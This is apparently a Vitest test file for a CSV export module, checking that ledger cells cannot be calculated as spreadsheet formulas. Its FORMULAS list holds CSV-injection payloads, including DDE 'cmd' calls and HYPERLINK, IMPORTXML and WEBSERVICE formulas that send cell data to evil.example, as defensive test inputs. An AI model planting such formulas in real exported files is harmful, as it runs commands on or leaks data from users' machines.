import { describe, expect, it } from 'vitest';
import { neutralizeText, restoreText, writeCsvRecord } from '../../../shared/kernel/csv.ts';

/** Known ways to make a spreadsheet calculate (OWASP CSV injection, and what was found around it). */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  '"=1+1',
  "'=1+1",
  '"";=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'robot";=1+1;"',
  'robot,=1+1',
  "robot;-1+cmd|' /C calc'!A0",
  'robot\n=1+1',
  'robot\r\n  @SUM(1)',
  'robot\t+1',
  '\ttab first',
  '\rreturn first',
];

/** Cells as spreadsheets cut them, by RFC 4180 with the country's separator. */
function cutCells(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at] as string;
    if (isQuoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (character === '"' && cell === '') isQuoted = true;
    else if (character === separator || character === '\n' || character === '\r') {
      cells.push(cell);
      cell = '';
    } else cell += character;
  }
  return [...cells, cell];
}

const CALCULATES = /^[\s\p{C}"]*[=+\-@＝＋－＠]/u;

describe('a cell of the ledger', () => {
  it.each(FORMULAS)('%j is never calculated, whatever separates cells there', (formula) => {
    const record = writeCsvRecord(['2026-03-12 21:04:31', formula, 'accepted']);
    for (const separator of [',', ';', '\t', '|']) {
      for (const cell of cutCells(record, separator)) expect(cell).not.toMatch(CALCULATES);
    }
  });

  it('is still what was written, but for the apostrophes', () => {
    for (const formula of FORMULAS) {
      const [cell] = cutCells(writeCsvRecord([formula]), ',');
      expect((cell as string).replaceAll("'", '')).toBe(formula.replaceAll("'", ''));
    }
  });

  it('is whole however long it is, and not calculated where a spreadsheet cuts it', () => {
    const full = 32_767;
    for (const length of [full - 2, full - 1, full, 2 * full - 1]) {
      for (const before of [
        'a'.repeat(length),
        `${'a'.repeat(length - 1)};`,
        `\t${'a'.repeat(length - 1)}`,
      ]) {
        const text = `${before}=1+1 and so on`;
        const safe = neutralizeText(text);
        expect(restoreText(safe)).toBe(text);
        for (let at = 0; at < safe.length; at += full)
          expect(safe.slice(at, at + full)).not.toMatch(CALCULATES);
      }
    }
    const prose = `${'A long walk. '.repeat(4_000)}End`;
    expect(neutralizeText(prose)).toBe(prose);
  });

  it('is left alone where nothing can be calculated', () => {
    for (const text of ['robot at dawn', 'Ein Wald – im Nebel', 'a-b=c', '3 × 4', 'مدينة', '16:9', ''])
      expect(neutralizeText(text)).toBe(text);
  });

  it('that is a number stays one, also a negative and a tiny one', () => {
    expect(writeCsvRecord([0.4, -1.5, 12, 0.0000001, Number.NaN, null])).toBe('0.4,-1.5,12,0.0000001,,\r\n');
  });

  it('is quoted as RFC 4180 says', () => {
    expect(writeCsvRecord(['a "b", c', 'two\nlines', 'plain', 'semi;colon'])).toBe(
      '"a ""b"", c","two\nlines",plain,"semi;colon"\r\n',
    );
  });
});
